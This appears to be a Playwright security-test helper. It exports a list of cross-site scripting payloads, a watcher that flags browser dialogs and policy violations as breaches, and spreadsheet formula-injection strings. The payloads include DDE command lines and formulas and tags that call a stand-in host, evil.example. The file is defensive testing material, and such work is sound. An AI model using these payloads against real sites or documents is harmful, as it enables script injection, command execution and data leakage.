import type { BrowserContext, Page } from '@playwright/test'

/** Malicious input: each would run or send a request on a page that does not treat it as text. */
export const payloads = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><script>alert(3)</script>",
  '</script><script>alert(4)</script>',
  '</title><script>alert(5)</script>',
  '</textarea><script>alert(6)</script>',
  '<img src=x onerror=alert(7)>',
  '"><img src=x onerror=alert(8)>',
  '<svg onload=alert(9)>',
  '<svg><animate onbegin=alert(10) attributeName=x>',
  '<body onload=alert(11)>',
  '<iframe srcdoc="<script>alert(12)</script>">',
  '<iframe src=javascript:alert(13)>',
  '<a href=javascript:alert(14)>x</a>',
  'javascript:alert(15)',
  '" onmouseover=alert(16) x="',
  "' onfocus=alert(17) autofocus x='",
  '<input autofocus onfocus=alert(18)>',
  '<details open ontoggle=alert(19)>',
  '<video><source onerror=alert(20)>',
  '<object data=javascript:alert(21)>',
  '<embed src=javascript:alert(22)>',
  '<form action=javascript:alert(23)><button>',
  '<math href=javascript:alert(24)>x',
  '<style>*{background:url(javascript:alert(25))}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '{{constructor.constructor("alert(29)")()}}',
  '${alert(30)}',
  '<!--<script>alert(31)//-->',
  ']]><script>alert(32)</script>',
  '&lt;script&gt;alert(33)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(34)',
  '%3Cscript%3Ealert(35)%3C/script%3E',
  '<scr<script>ipt>alert(36)</script>',
  '<sCrIpT>alert(37)</sCrIpT>',
  '{name, plural, one {#} other {alert(38)}}',
  '<noscript><p title="</noscript><img src=x onerror=alert(39)>">',
  '`-alert(40)-`',
]

/** A breach: a dialog, or a violation of the page's policy. */
export async function watch(context: BrowserContext): Promise<string[]> {
  const breaches: string[] = []
  await context.exposeFunction('reportBreach', (what: string) => breaches.push(what))
  await context.addInitScript(() => {
    const { reportBreach } = globalThis as unknown as { reportBreach: (what: string) => void }
    document.addEventListener('securitypolicyviolation', (event) =>
      reportBreach(`${event.violatedDirective} ${event.blockedURI} on ${location.pathname}`),
    )
  })
  const follow = (page: Page) =>
    page.on('dialog', (dialog) => {
      breaches.push(dialog.message())
      void dialog.dismiss()
    })
  context.pages().forEach(follow)
  context.on('page', follow)
  return breaches
}

/** Formulas of spreadsheets, and ways to hide them. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("//evil.example","x")',
  '=IMPORTXML("//evil.example","//a")',
  '=WEBSERVICE("//evil.example")',
  '=DDE("cmd";"/c calc")',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '＠SUM(1,1)',
]
